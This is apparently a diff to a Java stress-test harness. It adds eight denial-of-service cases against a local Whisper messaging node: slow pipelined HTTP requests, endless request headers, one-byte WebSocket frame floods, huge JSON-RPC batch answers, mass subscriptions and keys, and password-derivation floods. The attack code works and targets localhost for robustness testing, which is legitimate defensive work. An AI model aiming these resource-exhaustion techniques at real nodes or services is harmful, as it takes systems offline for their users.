@@ -98,6 +98,14 @@ public final class Attack {
     cases.put("idle-connections", this::idleConnections);
     cases.put("bad-requests", this::badRequests);
     cases.put("half-open-handshakes", this::halfOpenHandshakes);
+    cases.put("pipelined-requests", this::pipelinedRequests);
+    cases.put("large-heads", this::largeHeads);
+    cases.put("tiny-messages", this::tinyMessages);
+    cases.put("batches-of-large-answers", this::batchesOfLargeAnswers);
+    cases.put("held-back-pushes", this::heldBackPushes);
+    cases.put("many-keys", this::manyKeys);
+    cases.put("passwords", this::passwords);
+    cases.put("large-pushes", this::largePushes);
     return cases;
   }
 
@@ -575,6 +583,222 @@ public final class Attack {
     }
   }
 
+  /** Many requests behind one that takes its time. */
+  private void pipelinedRequests(Victim victim, long until) throws Exception {
+    byte[] slow = httpPost(hopelessPost(newKey(victim)));
+    byte[] quick =
+        "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"
+            .repeat(2_000)
+            .getBytes(StandardCharsets.UTF_8);
+    List<SocketChannel> channels = new ArrayList<>();
+    for (int i = 0; i < 20; i++) {
+      SocketChannel channel =
+          SocketChannel.open(new InetSocketAddress("127.0.0.1", victim.httpPort()));
+      channel.write(ByteBuffer.wrap(slow));
+      channels.add(channel);
+    }
+    pump(channels, quick, until);
+  }
+
+  /** Heads of requests that hold as many lines as fit and do not end. */
+  private void largeHeads(Victim victim, long until) throws Exception {
+    byte[] head =
+        ("GET / HTTP/1.1\r\n" + "a:\r\n".repeat(15_000)).getBytes(StandardCharsets.UTF_8);
+    List<SocketChannel> channels = new ArrayList<>();
+    for (int port : new int[] {victim.httpPort(), victim.webSocketPort()}) {
+      for (int i = 0; i < 250; i++) {
+        SocketChannel channel = SocketChannel.open(new InetSocketAddress("127.0.0.1", port));
+        channel.write(ByteBuffer.wrap(head));
+        channels.add(channel);
+      }
+    }
+    sleepUntil(until);
+    for (SocketChannel channel : channels) {
+      channel.close();
+    }
+  }
+
+  /** Messages of one byte behind requests that take their time. */
+  private void tinyMessages(Victim victim, long until) throws Exception {
+    String slow =
+        "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"shh_generateSymKeyFromPassword\","
+            + "\"params\":[\"x\"]}";
+    ByteBuffer frames = ByteBuffer.allocate(1 << 20);
+    for (int i = 0; i < 64; i++) {
+      frames.put((byte) 0x81).put((byte) (0x80 | 126)).putShort((short) slow.length()).putInt(0);
+      frames.put(slow.getBytes(StandardCharsets.UTF_8));
+    }
+    while (frames.remaining() > 7) {
+      frames.put((byte) 0x81).put((byte) 0x81).putInt(0).put((byte) '1');
+    }
+    byte[] bytes = Arrays.copyOf(frames.array(), frames.position());
+    List<SocketChannel> channels = new ArrayList<>();
+    for (int i = 0; i < 200; i++) {
+      SocketChannel channel = webSocket(victim);
+      channel.configureBlocking(false);
+      channels.add(channel);
+    }
+    List<ByteBuffer> rests = new ArrayList<>();
+    channels.forEach(channel -> rests.add(ByteBuffer.wrap(bytes)));
+    while (System.nanoTime() < until) {
+      for (int i = 0; i < channels.size(); i++) {
+        try {
+          channels.get(i).write(rests.get(i));
+        } catch (IOException hungUp) {
+          rests.get(i).position(rests.get(i).limit());
+        }
+      }
+      Thread.sleep(20);
+    }
+    for (SocketChannel channel : channels) {
+      channel.close();
+    }
+  }
+
+  /** Batches of which each answer is as long as all that this node has of version 2. */
+  private void batchesOfLargeAnswers(Victim victim, long until) throws Exception {
+    String id = Victim.result(victim.call("shh_newFilter", "[{}]"));
+    List<Bytes> envelopes = new ArrayList<>();
+    for (int i = 0; i < 50; i++) {
+      Bytes clear = Bytes.concatenate(Bytes.of(0), Bytes.random(100_000));
+      envelopes.add(Envelope.ofClassic(nowSeconds() + 600, 600, List.of(TOPIC), clear, i).rlp());
+    }
+    try (Peer peer = new Peer(vertx, victim.enode(), 2, (code, body) -> {})) {
+      peer.isConnected(5);
+      peer.send(MESSAGES, list(envelopes));
+      Thread.sleep(1_000);
+      String call =
+          "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"shh_getMessages\",\"params\":[\"" + id + "\"]}";
+      byte[] batch = httpPost("[" + call + "," + call + "]");
+      List<SocketChannel> channels = new ArrayList<>();
+      for (int i = 0; i < 150; i++) {
+        SocketChannel channel =
+            SocketChannel.open(new InetSocketAddress("127.0.0.1", victim.httpPort()));
+        channel.write(ByteBuffer.wrap(batch));
+        channels.add(channel);
+      }
+      sleepUntil(until);
+      for (SocketChannel channel : channels) {
+        channel.close();
+      }
+    }
+  }
+
+  /** Subscriptions in a batch that ends with a post that takes its time. */
+  private void heldBackPushes(Victim victim, long until) throws Exception {
+    String key = Victim.result(victim.call("shh_addSymKey", "[\"" + RAW_KEY + "\"]"));
+    String subscribe =
+        "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"shh_subscribe\",\"params\":[\"messages\",{"
+            + "\"symKeyID\":\"" + key + "\",\"topics\":[\"" + TOPIC.toBytes() + "\"]}]}";
+    try (SocketChannel channel = ipc(victim);
+        Peer peer = new Peer(vertx, victim.enode(), 6, (code, body) -> {})) {
+      channel.write(utf8("[" + (subscribe + ",").repeat(900) + hopelessPost(key) + "]"));
+      peer.isConnected(5);
+      while (System.nanoTime() < until) {
+        peer.send(MESSAGES, list(List.of(honest().rlp())));
+      }
+    }
+  }
+
+  /** Filters on every topic, each with a key of its own, and envelopes as fast as they go. */
+  private void manyKeys(Victim victim, long until) throws Exception {
+    HttpClient client = HttpClient.newHttpClient();
+    for (int i = 0; i < 1_000; i++) {
+      String key = Victim.result(victim.call(client, "shh_newKeyPair", "[]"));
+      victim.call(client, "shh_newMessageFilter", "[{\"privateKeyID\":\"" + key + "\"}]");
+    }
+    List<Bytes> envelopes = new ArrayList<>();
+    for (int i = 0; i < 10_000; i++) {
+      Bytes data = Bytes.random(120);
+      Envelope envelope = Envelope.of(nowSeconds() + 50, 50, TOPIC, data, 0);
+      while (envelope.pow(PowRule.EIP_627, 0) < 0.25) {
+        envelope = envelope.withNonce(envelope.nonce() + 1);
+      }
+      envelopes.add(envelope.rlp());
+    }
+    try (Peer peer = new Peer(vertx, victim.enode(), 6, (code, body) -> {})) {
+      peer.isConnected(5);
+      for (int at = 0; at < envelopes.size(); at += 1_000) {
+        peer.send(MESSAGES, list(envelopes.subList(at, at + 1_000)));
+      }
+      Thread.sleep(8_000);
+    }
+  }
+
+  /** Keys of passwords by the thousand, and an honest post. */
+  private void passwords(Victim victim, long until) throws Exception {
+    String key = newKey(victim);
+    String derive =
+        "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"shh_generateSymKeyFromPassword\","
+            + "\"params\":[\"x\"]}";
+    List<SocketChannel> channels = new ArrayList<>();
+    for (int i = 0; i < 50; i++) {
+      SocketChannel channel = ipc(victim);
+      channel.configureBlocking(false);
+      channel.write(utf8(derive.repeat(64)));
+      channels.add(channel);
+    }
+    Thread.sleep(500);
+    long begun = System.nanoTime();
+    String answer = "nothing";
+    try {
+      answer =
+          victim.call(
+              "shh_post",
+              "[{\"symKeyID\":\""
+                  + key
+                  + "\",\"topic\":\"0x01020304\",\"powTarget\":0.3,\"powTime\":5}]");
+    } catch (IOException late) {
+      // Told below.
+    }
+    long millis = (System.nanoTime() - begun) / 1_000_000;
+    for (SocketChannel channel : channels) {
+      channel.close();
+    }
+    if (!answer.contains("\"0x") || millis > 5_000) {
+      throw new Complaint("an honest post is answered " + answer + " after " + millis + " ms");
+    }
+  }
+
+  /** A thousand subscriptions of one client that each get every message of a mebibyte. */
+  private void largePushes(Victim victim, long until) throws Exception {
+    String key = Victim.result(victim.call("shh_addSymKey", "[\"" + RAW_KEY + "\"]"));
+    String subscribe =
+        "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"shh_subscribe\",\"params\":[\"messages\",{"
+            + "\"symKeyID\":\"" + key + "\",\"topics\":[\"" + TOPIC.toBytes() + "\"]}]}";
+    try (SocketChannel channel = ipc(victim);
+        Peer peer = new Peer(vertx, victim.enode(), 6, (code, body) -> {})) {
+      channel.write(utf8(subscribe.repeat(1_000)));
+      peer.isConnected(5);
+      Thread.sleep(1_000);
+      peer.send(MESSAGES, list(List.of(envelope(1, 900_000).rlp())));
+      long sent = System.nanoTime();
+      while (System.nanoTime() < until) {
+        Thread.sleep(100);
+      }
+    }
+  }
+
+  private static String newKey(Victim victim) throws Exception {
+    return Victim.result(victim.call("shh_newSymKey", "[]"));
+  }
+
+  /** A call that takes five minutes. */
+  private static String hopelessPost(String key) {
+    return "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"shh_post\",\"params\":[{\"symKeyID\":\""
+        + key
+        + "\",\"topic\":\"0x01020304\",\"powTarget\":1e60,\"powTime\":300}]}";
+  }
+
+  private static byte[] httpPost(String body) {
+    return ("POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
+            + "Content-Length: "
+            + body.length()
+            + "\r\n\r\n"
+            + body)
+        .getBytes(StandardCharsets.UTF_8);
+  }
+
   // Helpers
 
   private static SocketChannel ipc(Victim victim) throws IOException {
@@ -605,7 +829,10 @@ public final class Attack {
 
   /** An envelope of a few hundred bytes that a default geth takes. */
   private static Envelope honest() {
-    long ttl = 50;
+    return envelope(50, 64);
+  }
+
+  private static Envelope envelope(long ttl, int payloadBytes) {
     Envelope envelope =
         Envelope.of(
             WhisperVersion.V6,
@@ -615,7 +842,7 @@ public final class Attack {
             MessageSealer.sealSymmetric(
                 WhisperVersion.V6,
                 KEY,
-                Bytes.random(64),
+                Bytes.random(payloadBytes),
                 Optional.empty(),
                 Optional.empty(),
                 RANDOM),
